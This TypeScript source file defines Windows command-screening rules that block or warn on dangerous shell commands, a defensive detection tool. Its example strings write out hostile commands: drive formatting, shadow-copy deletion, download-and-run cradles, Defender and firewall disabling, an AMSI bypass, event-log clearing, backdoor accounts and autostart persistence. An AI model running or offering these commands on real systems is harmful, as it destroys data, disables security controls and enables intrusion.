import { defineRules } from '../rule.js';

// Lines: `\x12prog args` (a cmd/PowerShell statement, lowercased, `\` read as `/`, `^` and backtick
// escapes removed, program without path or .exe), `\x12\x1dP a \x1c b` (a pipeline), `\x12\x1dF text`
// (a whole source line, quotes removed, for shapes that span statements).
const ST = String.raw`^\x12`;
const FLAT = String.raw`^\x12\x1dF [^\n]*`;
const PIPELINE = String.raw`^\x12\x1dP `;
const ARGS = String.raw`(?: [^\n]*)?`;
const END = String.raw`(?: |$)`;
const DRIVE = String.raw`[a-z]:/?(?:\*(?:\.\*)?)?`;
const REMOVE = String.raw`(?:remove-item|ri|rm|rmdir|rd|del|erase)`;
const RECURSE = String.raw`-r(?:e(?:c(?:u(?:r(?:s(?:e)?)?)?)?)?)?(?::\$true)?`;
const PATH_PARAM = String.raw`(?:-(?:path|literalpath|lp|pspath|p|pa|pat) )?`;
const HIVE = String.raw`(?:hklm|hkcu|hkcr|hku|hkcc|hkey_local_machine|hkey_current_user|hkey_classes_root|hkey_users|hkey_current_config|registry::hkey_[a-z_]+):?/?\*?`;
const SP = String.raw`[ \x1a]`;
/** Top-level keys whose loss breaks the system or every user's settings. */
const HIVE_TOP = String.raw`(?:(?:hklm|hkey_local_machine)/(?:software|system|sam|security|hardware|bcd00000000)|(?:hkcu|hkey_current_user)/software|(?:hku|hkey_users)/\.default)`;
/** The same keys, and whole hives, as registry provider paths (`HKLM:\SOFTWARE`, `Registry::HKLM\SAM`). */
const HIVE_PROVIDER = String.raw`(?:(?:hklm|hkcu|hku|hkcr|hkcc):/?|registry::(?:hklm|hkcu|hku|hkcr|hkcc|hkey_[a-z_]+)/?|(?:hklm|hkey_local_machine):?/(?:software|system|sam|security|hardware|bcd00000000)/?|(?:hkcu|hkey_current_user):?/software/?|registry::(?:hklm|hkey_local_machine)/(?:software|system|sam|security|hardware|bcd00000000)/?|registry::(?:hkcu|hkey_current_user)/software/?)\*?`;
/** A program that starts another one (the destructive command is its argument). */
const STARTER = String.raw`\b(?:start-process|saps|start|wmic|invoke-wmimethod|iwmi|invoke-cimmethod|new-object|createobject|shellexecute|\.run|\.exec|\.create)\b`;
const WIN_DEEP = String.raw`[a-z]:/(?:windows|program${SP}files(?:${SP}\(x86\))?|programdata|boot|recovery|system${SP}volume${SP}information|\$recycle\.bin)(?:/[^ \n]*)?`;
const WIN_USERS = String.raw`[a-z]:/users(?:/[^/ \n]+)?/?\*?`;
const WIN_SYSTEM = String.raw`(?:${WIN_DEEP}|${WIN_USERS})`;

/** Recursive delete of `target` in cmd (`rd /s`, `del /s`) and PowerShell (`Remove-Item -Recurse`). */
function recursiveDelete(target: string): string[] {
  return [
    String.raw`${ST}(?:rd|rmdir|del|erase)${ARGS} /s${ARGS} ${target}${END}`,
    String.raw`${ST}(?:rd|rmdir|del|erase)${ARGS} ${target}${ARGS} /s${END}`,
    String.raw`${ST}${REMOVE}${ARGS} ${RECURSE}${ARGS} ${PATH_PARAM}${target}${END}`,
    String.raw`${ST}${REMOVE}${ARGS} ${PATH_PARAM}${target}${ARGS} ${RECURSE}${END}`,
    String.raw`${PIPELINE}(?:get-childitem|gci|ls|dir)${ARGS} ${PATH_PARAM}${target}${ARGS} \x1c (?:${REMOVE})\b`,
  ];
}

export const WINDOWS_RULES = defineRules([
  // ── block ────────────────────────────────────────────────────────────────────────────────
  {
    name: 'format-drive',
    action: 'block',
    platform: 'windows',
    description: 'Formatting a drive (format X:, Format-Volume) erases it.',
    patterns: [String.raw`${ST}format${ARGS} [a-z]:/?${END}`, String.raw`${ST}format-volume${END}`],
    examples: {
      match: [
        'format C: /q /y',
        'format d: /fs:ntfs',
        'Format-Volume -DriveLetter D',
        'Get-Volume -DriveLetter E | Format-Volume',
        'f^o^r^m^a^t c:',
      ],
      nearMiss: [
        'Get-Process | Format-Table',
        'Format-List -Property *',
        'git log --format=%h',
        'echo format c:',
      ],
    },
  },
  {
    name: 'drive-root-recursive-delete',
    action: 'block',
    platform: 'windows',
    description: 'Recursive delete of a drive root (rd /s C:\\, del /s C:\\*, Remove-Item -Recurse C:\\).',
    patterns: [
      ...recursiveDelete(DRIVE),
      String.raw`^\x11rm${ARGS} (?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)${ARGS} (?:/[a-z]|/mnt/[a-z]|[a-z]:)/?\*?${END}`,
    ],
    examples: {
      match: [
        'rd /s /q C:\\',
        'rmdir C:\\ /s /q',
        'del /f /s /q C:\\*.*',
        'Remove-Item -Recurse -Force C:\\',
        'ri C:\\ -r -fo',
        'Remove-Item -Path $env:SystemDrive\\ -Recurse',
        'Get-ChildItem C:\\ -Recurse | Remove-Item -Force',
      ],
      nearMiss: [
        'rd /s /q build',
        'Remove-Item -Recurse -Force .\\node_modules',
        'del C:\\temp\\x.txt',
        'dir C:\\ /s',
      ],
    },
  },
  {
    name: 'hive-root-recursive-delete',
    action: 'block',
    platform: 'windows',
    description:
      'Deleting a whole registry hive or a top-level key (HKLM\\SOFTWARE, SYSTEM, SAM, SECURITY) through the PowerShell registry provider.',
    patterns: [
      ...recursiveDelete(HIVE).slice(2, 4),
      String.raw`${ST}${REMOVE}${ARGS} ${PATH_PARAM}${HIVE_PROVIDER}${END}`,
    ],
    examples: {
      match: [
        'Remove-Item -Path HKLM:\\ -Recurse -Force',
        'ri hkcu:\\ -r',
        'Remove-Item -Path HKLM:\\SOFTWARE -Recurse -Force',
        'Remove-Item "Registry::HKEY_LOCAL_MACHINE\\SYSTEM" -Recurse',
        'Remove-Item HKLM:\\SAM',
      ],
      nearMiss: [
        'Remove-Item -Path HKCU:\\Software\\MyApp -Recurse',
        'Get-ChildItem HKLM:\\',
        'Remove-Item -Path HKLM:\\SOFTWARE\\Vendor\\App -Recurse',
      ],
    },
  },
  {
    name: 'shadow-copy-destruction',
    action: 'block',
    platform: 'windows',
    description: 'Deleting Volume Shadow Copies removes the restore points ransomware targets.',
    patterns: [
      String.raw`${ST}vssadmin${ARGS} delete shadows${END}`,
      // Shrinking the storage deletes the copies that no longer fit.
      String.raw`${ST}vssadmin${ARGS} resize shadowstorage${ARGS} /maxsize=(?:[0-9][0-9.]*(?:kb|mb|gb|tb|pb|eb|b)?|[0-9]+%)${END}`,
      String.raw`${ST}wmic${ARGS} shadowcopy${ARGS} delete${END}`,
      String.raw`${FLAT}win32_shadowcopy[^\n]*(?:\.delete\(|remove-ciminstance|remove-wmiobject)`,
      // Launched through another program (Start-Process, wmic process call create, WMI/CIM, COM).
      String.raw`${FLAT}${STARTER}[^\n]*\bvssadmin(?:\.exe)?\b[^\n]*\b(?:delete${SP}+shadows|resize${SP}+shadowstorage)\b`,
      String.raw`${FLAT}${STARTER}[^\n]*\bwmic(?:\.exe)?\b[^\n]*\bshadowcopy\b[^\n]*\bdelete\b`,
    ],
    examples: {
      match: [
        'vssadmin delete shadows /all /quiet',
        'wmic shadowcopy delete',
        'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }',
        'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB',
        'Start-Process vssadmin -ArgumentList "delete shadows /all /quiet" -WindowStyle Hidden',
        'wmic process call create "vssadmin delete shadows /all /quiet"',
        'Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine="vssadmin delete shadows /all"}',
      ],
      nearMiss: [
        'vssadmin list shadows',
        'Get-WmiObject Win32_ShadowCopy',
        'vssadmin list shadowstorage',
        'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=unbounded',
        'Start-Process notepad.exe',
      ],
    },
  },
  {
    name: 'backup-catalog-destruction',
    action: 'block',
    platform: 'windows',
    description: 'Deleting the Windows Backup catalog or system-state backups.',
    patterns: [String.raw`${ST}wbadmin${ARGS} delete (?:catalog|systemstatebackup|backup)${END}`],
    examples: {
      match: ['wbadmin delete catalog -quiet', 'wbadmin delete systemstatebackup -keepversions:0'],
      nearMiss: ['wbadmin get versions', 'wbadmin start backup -backupTarget:E:'],
    },
  },
  {
    name: 'raw-disk-destruction',
    action: 'block',
    platform: 'windows',
    description: 'Writing to a raw disk (\\\\.\\PhysicalDriveN), Clear-Disk, or diskpart clean.',
    patterns: [
      String.raw`${ST}clear-disk${END}`,
      String.raw`${FLAT}(?:writeallbytes|set-content|add-content|out-file|copy-item|\[(?:system\.)?io\.file\]::open|filestream|\bdd\b)[^\n]*//\./(?:physicaldrive[0-9]+|[a-z]:)`,
      String.raw`${FLAT}//\./(?:physicaldrive[0-9]+|[a-z]:)[^\n]*(?:writeallbytes|\.write\(|set-content|out-file)`,
      String.raw`${FLAT}\bclean(?: all)?\b[^\n]*\|[^\n]*\bdiskpart\b`,
      String.raw`^\x11(?:dd|dcfldd)${ARGS} of=//\./(?:physicaldrive[0-9]+|[a-z]:)${END}`,
    ],
    examples: {
      match: [
        'Clear-Disk -Number 0 -RemoveData',
        '[System.IO.File]::WriteAllBytes("\\\\.\\PhysicalDrive0", $zeros)',
        '(echo select disk 0 & echo clean) | diskpart',
      ],
      nearMiss: ['Get-Disk', 'diskpart /s list.txt', 'Get-PhysicalDisk | Format-Table'],
    },
  },
  {
    name: 'bcdedit-destructive',
    action: 'block',
    platform: 'windows',
    description:
      'bcdedit deleting boot entries or disabling recovery (/set recoveryenabled No, ignoreallfailures).',
    patterns: [
      String.raw`${ST}bcdedit${ARGS} /delete${END}`,
      String.raw`${ST}bcdedit${ARGS} /set${ARGS} recoveryenabled (?:no|off|0|false)${END}`,
      String.raw`${ST}bcdedit${ARGS} /set${ARGS} bootstatuspolicy ignoreallfailures${END}`,
    ],
    examples: {
      match: [
        'bcdedit /delete {current}',
        'bcdedit /set {default} recoveryenabled No',
        'bcdedit /set {default} bootstatuspolicy ignoreallfailures',
      ],
      nearMiss: [
        'bcdedit /enum',
        'bcdedit /set {current} description "Win"',
        'bcdedit /deletevalue {current} safeboot',
      ],
    },
  },
  {
    name: 'reg-delete-hive',
    action: 'block',
    platform: 'windows',
    description:
      'reg delete of a whole registry hive or a top-level key (HKLM\\SOFTWARE, SYSTEM, SAM, SECURITY).',
    patterns: [
      String.raw`${ST}reg${ARGS} delete (?:hklm|hkcu|hkcr|hku|hkcc|hkey_local_machine|hkey_current_user|hkey_classes_root|hkey_users|hkey_current_config)/?${ARGS} /f${END}`,
      String.raw`${ST}reg${ARGS} delete (?://[^/ \n]+/)?${HIVE_TOP}/?${END}`,
    ],
    examples: {
      match: [
        'reg delete HKLM /f',
        'reg delete HKEY_CURRENT_USER\\ /va /f',
        'reg delete HKLM\\SOFTWARE /f',
        'reg delete "HKLM\\SYSTEM" /f',
        'reg delete HKEY_LOCAL_MACHINE\\SAM /f',
        'reg delete HKLM\\SECURITY',
      ],
      nearMiss: [
        'reg delete HKCU\\Software\\MyApp /f',
        'reg query HKLM',
        'reg delete HKLM\\SOFTWARE\\Vendor\\App /f',
        'reg query HKLM\\SYSTEM',
      ],
    },
  },

  // ── warn ─────────────────────────────────────────────────────────────────────────────────
  {
    name: 'system-location-recursive-delete',
    action: 'warn',
    platform: 'windows',
    description: 'Recursive delete inside C:\\Windows, Program Files, ProgramData or a user profile root.',
    patterns: recursiveDelete(WIN_SYSTEM),
    examples: {
      match: [
        'rd /s /q C:\\Windows\\System32',
        'Remove-Item -Recurse -Force "C:\\Program Files\\App"',
        'del /s /q %SystemRoot%\\Temp',
        'rd /s C:\\Users\\bob',
      ],
      nearMiss: [
        'rd /s /q C:\\Users\\bob\\project\\build',
        'dir C:\\Windows',
        'Remove-Item C:\\Windows\\Temp\\x.log',
      ],
    },
  },
  {
    name: 'powershell-encoded-command',
    action: 'warn',
    platform: 'any',
    description:
      'PowerShell -EncodedCommand hides the script from readers (the decoded text is scanned too).',
    patterns: [
      String.raw`${ST}(?:powershell|pwsh)${ARGS} (?:--?|/)(?:e|ec|en[a-z]*)${END}`,
      String.raw`^\x11(?:powershell|pwsh)(?:\.exe)?${ARGS} (?:--?|/)(?:e|ec|en[a-z]*)${END}`,
    ],
    examples: {
      match: [
        'powershell -EncodedCommand ZQBjAGgAbwAgAGgAaQA=',
        'pwsh -enc ZQBjAGgAbwAgAGgAaQA=',
        'powershell.exe -NoP -e ZQBjAGgAbwA=',
        'powershell /enc ZQBjAGgAbwAgAGgAaQA=',
        'powershell -ec ZQBjAGgAbwAgAGgAaQA=',
        'pwsh --encodedcommand ZQBjAGgAbwAgAGgAaQA=',
      ],
      nearMiss: ['powershell -ExecutionPolicy RemoteSigned -File x.ps1', 'powershell -Command Get-Date'],
    },
  },
  {
    name: 'download-execute-cradle',
    action: 'warn',
    platform: 'windows',
    description:
      'Downloaded script text executed directly (IEX(New-Object Net.WebClient).DownloadString, iwr | iex, mshta/regsvr32 URLs).',
    patterns: [
      String.raw`${FLAT}\b(?:iex|invoke-expression)\b[^\n]*(?:downloadstring|downloadfile|downloaddata|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b|net\.webclient|\bcurl\b|\bwget\b|start-bitstransfer)`,
      String.raw`${FLAT}(?:downloadstring|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b|\bcurl\b|\bwget\b)[^\n]*\|[^\n]*\b(?:iex|invoke-expression)\b`,
      String.raw`${FLAT}\bcertutil(?:\.exe)?\b[^\n]*-urlcache`,
      String.raw`${FLAT}\bbitsadmin(?:\.exe)?\b[^\n]*/transfer`,
      String.raw`${FLAT}\bmshta(?:\.exe)?\b[^\n]*(?:https?:|javascript:|vbscript:)`,
      String.raw`${FLAT}\bregsvr32(?:\.exe)?\b[^\n]*/i:https?:`,
      String.raw`${FLAT}\brundll32(?:\.exe)?\b[^\n]*javascript:`,
    ],
    examples: {
      match: [
        "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
        'iwr https://x.example/a.ps1 -UseBasicParsing | iex',
        'certutil -urlcache -split -f http://x.example/a.exe a.exe',
        'mshta http://x.example/a.hta',
      ],
      nearMiss: [
        'Invoke-WebRequest https://x.example/a.zip -OutFile a.zip',
        'certutil -hashfile a.exe SHA256',
        'iex "Get-Date"',
      ],
    },
  },
  {
    name: 'defender-disable',
    action: 'warn',
    platform: 'windows',
    description: 'Turning Microsoft Defender off or excluding paths from it.',
    patterns: [
      String.raw`${FLAT}set-mppreference[^\n]*-disable[a-z]*(?: |:)\$?(?:true|1)\b`,
      String.raw`${FLAT}add-mppreference[^\n]*-exclusion(?:path|process|extension|ipaddress)`,
      String.raw`${FLAT}\bsc(?:\.exe)? +(?:stop|delete|config) +windefend\b`,
      String.raw`${FLAT}windows defender[^\n]*disable(?:antispyware|antivirus|realtimemonitoring|behaviormonitoring)`,
      String.raw`${FLAT}uninstall-windowsfeature[^\n]*windows-defender`,
      String.raw`${FLAT}mpcmdrun(?:\.exe)?[^\n]*-removedefinitions`,
      String.raw`${FLAT}\bdism(?:\.exe)?\b[^\n]*/disable-feature[^\n]*defender`,
      // PowerShell takes any unambiguous prefix of a parameter name.
      String.raw`${FLAT}set-mppreference[^\n]*-(?:maps[a-z]*|enablec[a-z]*|enablen[a-z]*|pua[a-z]*)(?: |:)(?:0|disabled|\$false)\b`,
      String.raw`${FLAT}set-mppreference[^\n]*-submits[a-z]*(?: |:)(?:2|neversend)\b`,
      String.raw`${FLAT}set-mppreference[^\n]*-exclusionp[a-z]*`,
      String.raw`${FLAT}msft_mppreference[^\n]*(?:disable[a-z]*[ =:]+\$?(?:true|1)\b|exclusion(?:path|process|extension))`,
      String.raw`${FLAT}windows defender[^\n]*\bdisable[a-z]*\b[^\n]*(?:/d +|-value +|=)1\b`,
    ],
    examples: {
      match: [
        'Set-MpPreference -DisableRealtimeMonitoring $true',
        'Add-MpPreference -ExclusionPath C:\\',
        'sc stop WinDefend',
        'Dism /online /Disable-Feature /FeatureName:Windows-Defender /Remove /NoRestart',
        'Set-MpPreference -DisableRealtimeMon $true',
        'Set-MpPreference -MAPSReporting 0',
        'Invoke-CimMethod -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpPreference -MethodName Set -Arguments @{DisableRealtimeMonitoring=$true}',
      ],
      nearMiss: [
        'Get-MpPreference',
        'Set-MpPreference -DisableRealtimeMonitoring $false',
        'Update-MpSignature',
      ],
    },
  },
  {
    name: 'firewall-disable',
    action: 'warn',
    platform: 'windows',
    description: 'Turning the Windows firewall off.',
    patterns: [
      String.raw`${FLAT}\bnetsh\b[^\n]*advfirewall[^\n]*\bset\b[^\n]*\bstate off\b`,
      String.raw`${FLAT}\bnetsh\b[^\n]*\bfirewall\b[^\n]*\bset\b[^\n]*opmode (?:mode=)?disable`,
      String.raw`${FLAT}set-netfirewallprofile[^\n]*-enabled(?: |:)\$?(?:false|0)\b`,
      String.raw`${FLAT}\b(?:sc(?:\.exe)?|stop-service|set-service)\b[^\n]*\bmpssvc\b`,
      String.raw`${FLAT}\benablefirewall\b[^\n]*(?:/d +|-value +|-va[a-z]* +|=|:)(?:0|0x0+|\\$false)(?: |;|$)`,
    ],
    examples: {
      match: [
        'netsh advfirewall set allprofiles state off',
        'Set-NetFirewallProfile -Profile Domain,Public -Enabled False',
        'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile /v EnableFirewall /t REG_DWORD /d 0 /f',
      ],
      nearMiss: ['netsh advfirewall show allprofiles', 'Get-NetFirewallProfile'],
    },
  },
  {
    name: 'execution-policy-weaken',
    action: 'warn',
    platform: 'windows',
    description: 'Weakening the PowerShell execution policy (Unrestricted / Bypass).',
    patterns: [
      String.raw`${ST}set-executionpolicy${ARGS} (?:unrestricted|bypass)${END}`,
      String.raw`${ST}(?:powershell|pwsh)${ARGS} -(?:ep|ex[a-z]*) (?:unrestricted|bypass)${END}`,
    ],
    examples: {
      match: [
        'Set-ExecutionPolicy Unrestricted -Force',
        'powershell -ExecutionPolicy Bypass -File x.ps1',
        'powershell -ep bypass',
      ],
      nearMiss: ['Get-ExecutionPolicy', 'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser'],
    },
  },
  {
    name: 'amsi-tamper',
    action: 'warn',
    platform: 'windows',
    description: 'Tampering with the Antimalware Scan Interface (AmsiUtils, amsiInitFailed, AmsiScanBuffer).',
    patterns: [
      String.raw`${FLAT}(?:amsiutils|amsiinitfailed|amsiscanbuffer|amsiopensession|amsicontext|amsi\.dll)`,
      // AmsiEnable = 0 under Windows Script\Settings turns AMSI off for script hosts.
      String.raw`${FLAT}\bamsienable\b[^\n]*(?:/d +|-value +|-va[a-z]* +|=|:)(?:0|0x0+|\\$false)(?: |;|$)`,
    ],
    examples: {
      match: [
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        'reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f',
      ],
      nearMiss: ['Get-Help about_Antimalware', 'Get-Command *amsi-report*'],
    },
  },
  {
    name: 'event-log-clear',
    action: 'warn',
    platform: 'windows',
    description: 'Clearing or removing Windows event logs (covering tracks).',
    patterns: [
      String.raw`${ST}wevtutil${ARGS} (?:cl|clear-log)${END}`,
      String.raw`${ST}(?:clear-eventlog|remove-eventlog)${END}`,
      String.raw`${FLAT}\.clearlog\(`,
      // `for /F … in ('wevtutil el') do wevtutil cl "%1"`: the loop body is a statement of `do`.
      String.raw`${FLAT}\bdo +@?wevtutil(?:\.exe)? +(?:cl|clear-log)\b`,
    ],
    examples: {
      match: [
        'wevtutil cl Security',
        'Clear-EventLog -LogName System',
        'wevtutil clear-log Application',
        `for /F "tokens=*" %1 in ('wevtutil.exe el') DO wevtutil.exe cl "%1"`,
      ],
      nearMiss: ['wevtutil qe System /c:5', 'Get-EventLog -LogName System -Newest 5'],
    },
  },
  {
    name: 'local-account-backdoor',
    action: 'warn',
    platform: 'windows',
    description: 'Creating local accounts or adding them to Administrators.',
    patterns: [
      String.raw`${ST}net1?${ARGS} user${ARGS} /add${END}`,
      String.raw`${ST}net1?${ARGS} localgroup${ARGS} /add${END}`,
      String.raw`${ST}net1?${ARGS} user administrator /active:yes${END}`,
      String.raw`${ST}new-localuser${END}`,
      String.raw`${ST}add-localgroupmember${ARGS} (?:-group )?administrators${END}`,
    ],
    examples: {
      match: [
        'net user backdoor P@ssw0rd /add',
        'net localgroup administrators backdoor /add',
        'New-LocalUser -Name x -Password $p',
      ],
      nearMiss: ['net user', 'net localgroup administrators', 'Get-LocalUser'],
    },
  },
  {
    name: 'autostart-persistence',
    action: 'warn',
    platform: 'windows',
    description:
      'Registering something to start automatically (Run keys, scheduled tasks, services, Startup folder).',
    patterns: [
      String.raw`${ST}reg${ARGS} add (?:hklm|hkcu|hkey_local_machine|hkey_current_user)/software/(?:wow6432node/)?microsoft/windows/currentversion/(?:run|runonce|runonceex|runservices|runservicesonce|policies/explorer/run)(?:/|${END})`,
      String.raw`${ST}reg${ARGS} add (?:hklm|hkcu|hkey_local_machine|hkey_current_user)/software/(?:wow6432node/)?microsoft/windows${SP}nt/currentversion/winlogon`,
      String.raw`${ST}schtasks${ARGS} /create${END}`,
      String.raw`${ST}(?:register-scheduledtask|new-scheduledtask|new-service)${END}`,
      String.raw`${ST}sc${ARGS} create${END}`,
      String.raw`${FLAT}(?:set-itemproperty|new-itemproperty|\bsp\b)[^\n]*currentversion/(?:run|policies/explorer/run)`,
      String.raw`${FLAT}(?:set-itemproperty|new-itemproperty|\bsp\b)[^\n]*windows nt/currentversion/winlogon[^\n]*-name +(?:userinit|shell|taskman|appsetup|notify)\b`,
      String.raw`${FLAT}start menu/programs/startup`,
    ],
    examples: {
      match: [
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe',
        'schtasks /create /tn x /tr c:\\x.exe /sc onlogon',
        'sc create evil binPath= c:\\x.exe',
        'New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value c:\\x.exe',
        'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001 /v x /d c:\\x.exe',
        'reg add "HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d explorer.exe,c:\\x.exe /f',
        'Set-ItemProperty "HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" -Name Userinit -Value "userinit.exe,c:\\x.exe"',
      ],
      nearMiss: [
        'schtasks /query',
        'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        'sc query',
      ],
    },
  },
  {
    name: 'acl-takeover',
    action: 'warn',
    platform: 'windows',
    description: 'Taking ownership of files or granting Everyone/Users full control.',
    patterns: [
      String.raw`${ST}takeown${ARGS} /f${END}`,
      String.raw`${ST}icacls${ARGS} /grant(?::r)? (?:everyone|\*s-1-1-0|users|\*s-1-5-32-545|authenticated${SP}users|builtin/users):(?:\((?:oi|ci|io|np|i)\))*\(?f\)?${END}`,
      String.raw`${ST}icacls${ARGS} /setowner${END}`,
      String.raw`${ST}cacls${ARGS} /g everyone:f${END}`,
    ],
    examples: {
      match: [
        'takeown /f C:\\Windows\\System32\\sethc.exe',
        'icacls C:\\Windows\\System32 /grant Everyone:F /t',
        'icacls x /setowner bob',
      ],
      nearMiss: ['icacls C:\\data', 'icacls C:\\data /grant bob:R'],
    },
  },
  {
    name: 'windows-shutdown',
    action: 'warn',
    platform: 'windows',
    description: 'Shutting down or restarting the Windows host.',
    patterns: [
      String.raw`${ST}shutdown${ARGS} [/-][srpfh]${END}`,
      String.raw`${ST}(?:stop-computer|restart-computer)${END}`,
    ],
    examples: {
      match: ['shutdown /s /t 0', 'shutdown /r', 'Restart-Computer -Force'],
      nearMiss: ['shutdown /a', 'Get-ComputerInfo'],
    },
  },
]);
